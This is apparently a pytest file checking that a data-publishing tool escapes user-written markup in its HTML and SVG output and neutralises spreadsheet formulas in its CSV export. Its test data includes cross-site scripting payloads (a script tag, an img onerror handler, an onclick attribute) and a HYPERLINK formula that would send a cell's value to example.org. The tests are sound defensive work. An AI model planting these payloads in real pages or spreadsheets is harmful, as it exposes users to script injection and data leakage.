"""What a publisher or a contributor wrote reaches a reader as text: no formula is run, no markup is obeyed."""

from __future__ import annotations

import csv
import json
from html import unescape
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from spoiling import edit

from sharitories.tables import write_csv

SCRIPT = '<script>alert("1")</script><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"click")'


def written(table: pl.DataFrame, folder: Path) -> list[dict[str, str]]:
    write_csv(table, folder / "table.csv")
    with (folder / "table.csv").open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


@pytest.mark.parametrize(
    "text", [FORMULA, "+33 1 2", "-lane", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "-2+3", "=", "--1"]
)
def test_a_text_that_a_spreadsheet_would_run_is_written_behind_an_apostrophe(
    tmp_path: Path, text: str
) -> None:
    assert written(pl.DataFrame({"name": [text]}), tmp_path) == [{"name": "'" + text}]


@pytest.mark.parametrize(
    "text", ["-12.5", "+3", "-4,2", "0", "L'@telier", "1=1", " =1", "'=1", "", "2014-01-01"]
)
def test_what_none_would_run_is_written_as_it_is(tmp_path: Path, text: str) -> None:
    assert written(pl.DataFrame({"name": [text, "x"]}), tmp_path)[0] == {"name": text}


def test_numbers_keep_their_sign_and_nulls_stay_empty(tmp_path: Path) -> None:
    write_csv(pl.DataFrame({"value": [-1.5, None, 2.0]}), tmp_path / "table.csv")
    assert (tmp_path / "table.csv").read_text(encoding="utf-8") == "value\n-1.5\n\n2.0\n"
    write_csv(pl.DataFrame({"text": [None, "=1"], "value": [1, None]}), tmp_path / "table.csv")
    assert (tmp_path / "table.csv").read_text(encoding="utf-8") == "text,value\n,1\n'=1,\n"


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0"))))
def test_no_cell_begins_as_a_formula_and_no_text_is_lost(tmp_path_factory, texts: list[str]) -> None:
    rows = written(pl.DataFrame({"n": range(len(texts)), "text": texts}, schema={"n": pl.Int64, "text": pl.String}),
                   tmp_path_factory.mktemp("csv"))  # fmt: skip
    for row, text in zip(rows, texts, strict=True):
        assert row["text"] in (text, "'" + text)
        if row["text"] and row["text"][0] in "=+-@\t\r\n":
            float(row["text"].replace(",", "."))


def test_markup_in_what_people_wrote_is_shown_and_not_obeyed(my_study: Path, sharitories_in) -> None:
    """An initiative, a source and a city that bear markup, and a formula, through the whole chain to the release."""
    inputs = my_study / "inputs"
    quoted = '"' + SCRIPT.replace('"', '""') + '"'
    edit(
        inputs / "initiatives.csv", "narbonne-in-ess,FR-11262,IN'ESS,", f"narbonne-in-ess,FR-11262,{quoted},"
    )
    formula = '"' + FORMULA.replace('"', '""') + '"'
    edit(inputs / "initiatives.csv", ",IN'ESS coworking space,", f",{formula},")
    title = SCRIPT.replace('"', "'")
    edit(inputs / "initiatives.csv", "Le Grand Narbonne inaugure IN'ESS (La Tribune", f"{title} (La Tribune")
    (my_study / "claims.yml").write_text("[]", encoding="utf-8")  # what people wrote would go stale
    places = my_study / "figures" / "territories.parquet"
    named = (
        pl.when(pl.col("territory_id") == "FR-11262").then(pl.lit("Narbonne <b onclick=x>")).otherwise("name")
    )
    pl.read_parquet(places).with_columns(named.alias("name")).write_parquet(places)
    told = sharitories_in("explore", "my-study")
    assert told.code == 0, told.err
    release = my_study / "releases" / "1"
    pages = [path.read_text(encoding="utf-8") for path in (release / "site").rglob("*.html")]
    pictures = [path.read_text(encoding="utf-8") for path in (release / "site").rglob("*.svg")]
    assert any(SCRIPT in unescape(page) for page in pages)
    assert any("Narbonne <b onclick=x>" in unescape(page) for page in pages)
    for text in (*pages, *pictures):
        assert "<script" not in text
        assert "<img src=x" not in text
        assert "<b onclick" not in text
    rows = (release / "data" / "initiatives.csv").read_text(encoding="utf-8")
    assert '"' + "'" + FORMULA.replace('"', '""') + '"' in rows
    kept = pl.read_parquet(release / "data" / "initiatives.parquet")
    assert FORMULA in kept["name"].to_list()
    features = json.loads((release / "data" / "territories.geojson").read_text(encoding="utf-8"))["features"]
    assert "Narbonne <b onclick=x>" in {feature["properties"]["name"] for feature in features}
